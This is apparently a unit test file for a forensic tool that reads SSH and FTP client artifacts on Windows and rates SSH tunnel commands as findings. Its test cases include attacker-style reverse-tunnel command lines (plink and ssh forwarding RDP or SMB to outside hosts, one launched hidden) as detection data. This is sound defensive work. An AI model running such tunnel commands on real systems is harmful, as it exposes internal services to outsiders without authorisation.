#include <gmock/gmock.h>

#include "collector/module/ssh_client_row.h"
#include "tests/modules/judge_cases.h"

namespace hozen {
namespace modules {
extern const ModuleSpec event_logs, powershell_history, ssh_clients;
}  // namespace modules
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;

constexpr const char* kPutty = "HKU\\alice\\Software\\SimonTatham\\PuTTY\\";
constexpr const char* kWinScp = "HKU\\alice\\Software\\Martin Prikryl\\WinSCP 2\\";

class SshClients : public testing::Test {
 protected:
  SshClients() { windows.user("alice"); }
  const ModuleRun& run() {
    run_.emplace(run_module(modules::ssh_clients, windows));
    return *run_;
  }
  const fake::Record& only(std::string_view entry) {
    const auto* found = run().context->record({{"entry", entry}});
    static const fake::Record kNone;
    EXPECT_NE(found, nullptr);
    return found == nullptr ? kNone : *found;
  }
  fake::FakeWindows windows;

 private:
  std::optional<ModuleRun> run_;
};

TEST_F(SshClients, SessionOfPuTTY) {
  const std::string key = std::string{kPutty} + "Sessions\\jump%20host";
  windows.value(key, "HostName", fake::sz("203.0.113.7"), fake::at(5));
  windows.value(key, "PortNumber", fake::dword(2222), fake::at(5));
  windows.value(key, "UserName", fake::sz("root"), fake::at(5));
  windows.value(key, "Protocol", fake::sz("ssh"), fake::at(5));
  windows.value(key, "PortForwardings", fake::sz("L8080=10.0.0.1:80,4D1080="), fake::at(5));
  windows.value(key, "PublicKeyFile", fake::sz("C:\\k.ppk"), fake::at(5));
  windows.value(key, "ProxyPassword", fake::sz("secret"), fake::at(5));
  windows.value(key, "LogFileName", fake::sz("putty.log"), fake::at(5));
  const fake::Record& row = only("session");
  EXPECT_EQ(row["program"], "PuTTY");
  EXPECT_EQ(row["name"], "jump host");
  EXPECT_EQ(row["host"], "203.0.113.7");
  EXPECT_EQ(row["port"], "2222");
  EXPECT_EQ(row["account"], "root");
  EXPECT_EQ(row.json_of("forwards"), R"(["L 8080:10.0.0.1:80","D 1080:"])");
  EXPECT_EQ(row["key_file"], "C:\\k.ppk");
  EXPECT_EQ(row["password_stored"], "true");
  EXPECT_EQ(row.json_of("log_file"), "null");  // LogType says that nothing is written
  EXPECT_EQ(row.user_name, "alice");
  EXPECT_EQ(time_of(row, "key_last_written"), fake::at(5));
  EXPECT_THAT(row.json, Not(HasSubstr("secret")));
  EXPECT_THAT(run().context->findings, IsEmpty());
}

TEST_F(SshClients, HostKeysAndRecentSessionsOfPuTTY) {
  windows.value(std::string{kPutty} + "SshHostKeys", "ssh-ed25519@22:10.0.0.5",
                fake::sz("0x1,0x2"));
  windows.value(std::string{kPutty} + "SshHostKeys", "odd", fake::sz("0x1"));
  windows.value(std::string{kPutty} + "Jumplist", "Recent sessions",
                fake::multi_sz({"one", "two"}));
  const fake::Record& key = only("host_key");
  EXPECT_EQ(key["host"], "10.0.0.5");
  EXPECT_EQ(key["port"], "22");
  EXPECT_EQ(key["key_type"], "ssh-ed25519");
  EXPECT_EQ(records_of(run(), "ssh_client_entry").size(), 3u);
}

TEST_F(SshClients, DeletedHostKeysAreTold) {
  windows.value(std::string{kPutty} + "SshHostKeys", "kept", fake::sz("x"));
  windows.deleted_value(std::string{kPutty} + "SshHostKeys", "rsa2@22:198.51.100.1",
                        fake::sz("0x1"));
  const fake::Record& key = only("host_key");
  EXPECT_EQ(key["host"], "198.51.100.1");
  EXPECT_EQ(key["deleted"], "true");
  EXPECT_EQ(key["program"], "PuTTY");
}

TEST_F(SshClients, EntriesOfWinScp) {
  const std::string key = std::string{kWinScp} + "Sessions\\adm@10.0.0.9";
  windows.value(key, "HostName", fake::sz("10.0.0.9"));
  windows.value(key, "UserName", fake::sz("adm"));
  windows.value(key, "Password", fake::sz("A35C7659"));
  windows.value(std::string{kWinScp} + "Configuration\\CDCache", "adm@10.0.0.9",
                fake::binary({std::byte{'A'}, std::byte{'/'}}));
  windows.value(std::string{kWinScp} + "Configuration\\History\\RemoteTarget", "0",
                fake::sz("/tmp/%2A.zip"));
  windows.value(std::string{kWinScp} + "SshHostKeys", "ecdsa@22:10.0.0.9", fake::sz("k"));
  const fake::Record& row = only("session");
  EXPECT_EQ(row["host"], "10.0.0.9");
  EXPECT_EQ(row["password_stored"], "true");
  EXPECT_THAT(row.json, Not(HasSubstr("A35C7659")));
  EXPECT_EQ(only("directory")["host"], "adm@10.0.0.9");
  EXPECT_EQ(only("recent")["command"], "/tmp/*.zip");
  EXPECT_EQ(only("host_key")["program"], "WinSCP");
}

TEST_F(SshClients, FilesOfOpenSsh) {
  windows.file("C:\\Users\\alice\\.ssh\\known_hosts",
               "# c\n10.0.0.1,[srv]:2222 ssh-ed25519 AAAA\n|1|a=|b= ssh-rsa BBBB c\nbroken\n");
  windows.file("C:\\Users\\alice\\.ssh\\config",
               "Host jump\n  HostName 203.0.113.9\n  User eve\n  RemoteForward 9000 "
               "localhost:3389\nHost other\n  Port 22\n");
  windows.file("C:\\ProgramData\\ssh\\administrators_authorized_keys",
               "from=\"10.0.0.1\" ssh-ed25519 AAAAC3 eve@kali\n");
  windows.file("C:\\ProgramData\\ssh\\sshd_config", "#Port 22\nPort 2022\nBanner x\n");
  const ModuleRun& done = run();
  EXPECT_EQ(records_of(done, "ssh_client_entry").size(), 7u);
  const auto* host = done.context->record({{"host", "srv"}});
  ASSERT_NE(host, nullptr);
  EXPECT_EQ((*host)["port"], "2222");
  EXPECT_EQ((*host)["line"], "2");
  const auto* key = done.context->record({{"entry", "authorized_key"}});
  ASSERT_NE(key, nullptr);
  EXPECT_EQ((*key)["name"], "eve@kali");
  EXPECT_EQ((*key)["command"], "from=\"10.0.0.1\"");
  EXPECT_NE(done.context->record({{"entry", "setting"}, {"name", "Port"}, {"command", "2022"}}),
            nullptr);
  EXPECT_THAT(fake::summary_of(done.context->findings),
              HasSubstr("ssh_clients.administrators_keys low 20"));
  const Finding* saved = done.context->finding("ssh_clients.saved_tunnel");
  ASSERT_NE(saved, nullptr);
  EXPECT_EQ(severity_of(*saved), Severity::medium);
  EXPECT_THAT(story_of(*saved), HasSubstr("R 9000:localhost:3389"));
}

TEST_F(SshClients, FilesOfFileZillaAndWinScp) {
  windows.file(
      "C:\\Users\\alice\\AppData\\Roaming\\FileZilla\\sitemanager.xml",
      "<FileZilla3><Servers><Server><Host>ftp.example</Host><Port>21</Port>"
      "<User>a&amp;b</User><Pass encoding=\"base64\">c2VjcmV0</Pass><Name>x</Name></Server>"
      "<Server><Host>second</Host></Server></Servers></FileZilla3>");
  windows.file("C:\\Users\\alice\\AppData\\Roaming\\FileZilla\\recentservers.xml",
               "<RecentServers><Server><Host>third</Host></Server><Server><Host>cut");
  windows.file("C:\\Users\\alice\\AppData\\Roaming\\WinSCP.ini",
               "[Sessions\\a%20b]\nHostName=10.1.1.1\nPassword=A35C\n[SshHostKeys]\n"
               "rsa2@22:10.1.1.1=0x1\n[Configuration\\Interface]\nx=1\n");
  const ModuleRun& done = run();
  const auto* site = done.context->record({{"host", "ftp.example"}});
  ASSERT_NE(site, nullptr);
  EXPECT_EQ((*site)["account"], "a&b");
  EXPECT_EQ((*site)["password_stored"], "true");
  EXPECT_THAT(site->json, Not(HasSubstr("c2VjcmV0")));
  EXPECT_EQ((*done.context->record({{"host", "second"}}))["password_stored"], "false");
  EXPECT_EQ((*done.context->record({{"host", "third"}}))["entry"], "recent");
  const auto* session = done.context->record({{"program", "WinSCP"}, {"entry", "session"}});
  ASSERT_NE(session, nullptr);
  EXPECT_EQ((*session)["name"], "a b");
  EXPECT_EQ((*session)["password_stored"], "true");
  EXPECT_NE(done.context->record({{"program", "WinSCP"}, {"entry", "host_key"}}), nullptr);
  EXPECT_EQ(records_of(done, "ssh_client_entry").size(), 5u);
}

TEST_F(SshClients, HostsOfTheInternetCountOnServersOnly) {
  const std::string key = std::string{kPutty} + "SshHostKeys";
  windows.value(key, "rsa2@22:203.0.113.7", fake::sz("0x1"));
  windows.value(key, "rsa2@22:8.8.8.8", fake::sz("0x1"));
  windows.value(key, "rsa2@22:10.0.0.1", fake::sz("0x1"));
  EXPECT_THAT(run().context->findings, IsEmpty());
  fake::Options options;
  options.product = "Windows Server 2019 Standard";
  fake::FakeWindows server{options};
  server.user("alice");
  server.value(key, "rsa2@22:8.8.8.8", fake::sz("0x1"));
  server.value(key, "rsa2@22:10.0.0.1", fake::sz("0x1"));
  const ModuleRun done = run_module(modules::ssh_clients, server);
  EXPECT_EQ(fake::summary_of(done.context->findings), "ssh_clients.outside_hosts low 20 alice\n");
}

// ---- tunnels

struct TunnelCase {
  const char *image, *line, *original;
  std::vector<std::string> expected;
};
class SshTunnel : public SshClients, public testing::WithParamInterface<TunnelCase> {};
TEST_P(SshTunnel, IsJudged) {
  builders::EvtxBuilder log;
  log.event(text_event("Microsoft-Windows-Sysmon/Operational", 1, 0,
                       {{"Image", GetParam().image},
                        {"CommandLine", GetParam().line},
                        {"OriginalFileName", GetParam().original},
                        {"User", "PC\\eve"}}));
  windows.file("C:\\Windows\\System32\\winevt\\Logs\\x.evtx", "").bytes = log.bytes();
  const ModuleRun done = run_and_judge({&modules::event_logs, &modules::ssh_clients}, windows);
  std::vector<std::string> found;
  for (const Finding& finding : done.context->findings)
    found.push_back(finding.rule + " " + std::string{to_text(severity_of(finding))});
  EXPECT_EQ(found, GetParam().expected);
  for (const Finding& finding : done.context->findings)
    EXPECT_THAT(story_of(finding), Not(HasSubstr("hunter2")));
}
INSTANTIATE_TEST_SUITE_P(
    All, SshTunnel,
    testing::Values(
        TunnelCase{"C:\\T\\plink.exe",
                   "plink.exe -pw hunter2 -N -R 3389:127.0.0.1:3389 u@203.0.113.7",
                   "",
                   {"ssh_clients.tunnel high"}},
        TunnelCase{"C:\\T\\svc.exe",
                   "svc.exe -R 8080:10.0.0.1:80 u@203.0.113.7",
                   "Plink",
                   {"ssh_clients.tunnel high"}},
        TunnelCase{"C:\\T\\svc.exe",
                   "svc.exe -ssh -R8080:10.0.0.1:80 203.0.113.7",
                   "",
                   {"ssh_clients.tunnel medium"}},
        TunnelCase{"C:\\Windows\\System32\\OpenSSH\\ssh.exe",
                   "ssh -fNR 1080 u@203.0.113.7",
                   "",
                   {"ssh_clients.tunnel medium"}},
        TunnelCase{"C:\\Windows\\System32\\OpenSSH\\ssh.exe",
                   "ssh -L 5432:db:5432 u@10.0.0.1",
                   "",
                   {"ssh_clients.tunnel low"}},
        TunnelCase{"C:\\Windows\\System32\\OpenSSH\\ssh.exe",
                   "ssh -D 1080 u@10.0.0.1",
                   "",
                   {"ssh_clients.tunnel low"}},
        TunnelCase{"C:\\T\\svc.exe",
                   "svc.exe -R 8080:10.0.0.1:80 203.0.113.7",
                   "KiTTY",
                   {"ssh_clients.tunnel high"}},
        // HeidiSQL brings it under this name, which tells what it is.
        TunnelCase{"C:\\P\\plink-64.exe",
                   "plink-64.exe -ssh u@db -pw hunter2 -L 3307:127.0.0.1:3306 -N",
                   "Plink",
                   {"ssh_clients.tunnel low"}},
        TunnelCase{"C:\\P\\plinking.exe",
                   "plinking.exe -ssh u@db -pw hunter2 -L 3307:127.0.0.1:3306 -N",
                   "Plink",
                   {"ssh_clients.tunnel medium"}},
        TunnelCase{"C:\\Windows\\System32\\OpenSSH\\ssh.exe", "ssh -l root -p 22 10.0.0.1", "", {}},
        TunnelCase{"C:\\Windows\\System32\\OpenSSH\\ssh.exe",
                   "ssh -L 33389:10.0.0.5:3389 bastion",
                   "",
                   {"ssh_clients.tunnel low"}},
        TunnelCase{"C:\\T\\svc.exe",
                   "svc.exe -L 33389:10.0.0.5:3389 u@203.0.113.7",
                   "",
                   {"ssh_clients.tunnel medium"}},
        TunnelCase{"C:\\T\\svc.exe",
                   "svc.exe -R 0.0.0.0:33389:127.0.0.1:3389 u@203.0.113.7",
                   "",
                   {"ssh_clients.tunnel high"}},
        TunnelCase{
            "C:\\jdk\\bin\\java.exe",
            "java -jar ApacheJMeter.jar -R 10.0.0.5:1099,10.0.0.6:1099 -Juser=t@corp.example",
            "",
            {}},
        TunnelCase{"C:\\jdk\\bin\\java.exe",
                   "java -jar ApacheJMeter.jar -R 10.0.0.5:1099 t@corp.example",
                   "",
                   {}},
        TunnelCase{"C:\\T\\mail.exe", "mail.exe -R 1:host:x a@corp.example", "", {}},
        TunnelCase{"C:\\T\\mail.exe", "mail.exe -R 1:host:2 user=a@corp.example", "", {}},
        TunnelCase{"C:\\T\\gcc.exe", "gcc -L C:\\lib -D FOO=1:2 a.c", "", {}},
        TunnelCase{"C:\\T\\robocopy.exe", "robocopy a b -R:3 -W:5", "", {}},
        TunnelCase{"C:\\T\\curl.exe", "curl -L http://10.0.0.1:80/a:b", "", {}}));

TEST_F(SshClients, TunnelsTypedIntoPowerShell) {
  const auto typed = [&](const std::string& line) {
    fake::FakeWindows host;
    host.user("alice");
    host.file(
        "C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\"
        "ConsoleHost_history.txt",
        line + "\n");
    const ModuleRun done =
        run_and_judge({&modules::powershell_history, &modules::ssh_clients}, host);
    std::string found;
    for (const Finding& finding : done.context->findings)
      found +=
          finding.rule + " " + std::string{to_text(severity_of(finding))} + " " + finding.subject;
    return found;
  };
  EXPECT_EQ(typed("plink.exe -ssh -l root -pw abc -R 3389:127.0.0.1:3389 203.0.113.9"),
            "ssh_clients.tunnel high plink.exe by alice");
  EXPECT_EQ(typed("cd C:\\PerfLogs; ssh -R 3389:localhost:3389 root@203.0.113.9 -N -f"),
            "ssh_clients.tunnel high ssh by alice");
  EXPECT_EQ(typed("& 'C:\\a b\\plink.exe' -R 1080 203.0.113.9"),
            "ssh_clients.tunnel medium C:\\a b\\plink.exe by alice");
  EXPECT_EQ(typed("Start-Process .\\plink.exe -WindowStyle Hidden -ArgumentList "
                  "'-R','445:127.0.0.1:445','203.0.113.9'"),
            "ssh_clients.tunnel high .\\plink.exe by alice");
  EXPECT_EQ(typed("ssh -L 5432:db:5432 u@10.0.0.1"), "ssh_clients.tunnel low ssh by alice");
  EXPECT_EQ(typed("ssh admin@10.0.0.1"), "");
  EXPECT_EQ(typed("Get-ChildItem -Recurse | Select-String -Pattern 'ssh -R 1:2:3'"), "");
  EXPECT_EQ(typed("robocopy a b -R:3 -W:5"), "");
}

TEST(SshForwards, AreReadAsClientsDo) {
  using ssh::forwards_in;
  EXPECT_THAT(forwards_in("ssh -R 1:h:2 -L [::1]:3:h:4 -D 5", true),
              ElementsAre("R 1:h:2", "L [::1]:3:h:4", "D 5"));
  EXPECT_THAT(forwards_in("ssh -R", true), IsEmpty());
  EXPECT_THAT(ssh::port_forwardings(",L,X1=2,6R3389=127.0.0.1:3389,"),
              ElementsAre("R 3389:127.0.0.1:3389"));
}

TEST(SshTexts, BrokenOnesGiveWhatTheyHold) {
  EXPECT_EQ(ssh::url_decoded("a%2"), "a%2");
  EXPECT_EQ(ssh::url_decoded("%41%zz%"), "A%zz%");
  EXPECT_FALSE(ssh::host_key_named("rsa@x:host"));
  EXPECT_FALSE(ssh::host_key_named("rsa@22:"));
  EXPECT_THAT(ssh::parse_known_hosts("@revoked\n, ,\nh t\n"), IsEmpty());
  EXPECT_THAT(ssh::parse_authorized_keys("from=\"a\"\nssh-rsa\n"), IsEmpty());
  EXPECT_THAT(ssh::parse_filezilla("<Server><Host>a"), IsEmpty());
  EXPECT_EQ(ssh::parse_ssh_config("User=x\n").size(), 1u);
}

}  // namespace
}  // namespace hozen
